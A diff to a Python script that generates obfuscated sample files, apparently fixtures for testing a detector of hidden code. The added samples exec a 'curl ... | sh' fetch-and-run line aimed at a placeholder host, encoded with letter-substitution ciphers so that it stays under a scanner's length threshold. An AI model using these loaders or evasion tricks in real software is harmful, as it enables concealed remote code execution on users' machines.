@@ -114,3 +114,16 @@ write("whitespace", """DATA = %r
 source = ''.join(chr(int(DATA[i:i + 8].replace(' ', '0').replace('\\t', '1'), 2)) for i in range(0, len(DATA), 8))
 exec(compile(source, '<string>', 'exec'))
 """ % bits)
+# one line under a substitution over string.ascii_letters, written inside exec's argument (shorter than the
+# 200 characters a loose literal needs to be guessed at): the table reversed, then rotated by 11
+LETTERS = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ"
+one_line = "import os;os.system('curl -s https://example.invalid/%s | sh')"
+write("letters_atbash", """import string
+letters = string.ascii_letters
+letters_r = letters[::-1]
+exec("".join([letters_r[letters.index(c)] if c in letters_r else c for c in %r]))
+""" % "".join(LETTERS[51 - LETTERS.index(c)] if c in LETTERS else c for c in one_line % "letters_atbash"))
+write("letters_caesar", """import string
+abc = string.ascii_letters
+exec("".join(abc[(abc.index(c) - 11) %% 52] if c in abc else c for c in %r))
+""" % "".join(LETTERS[(LETTERS.index(c) + 11) % 52] if c in LETTERS else c for c in one_line % "letters_caesar"))
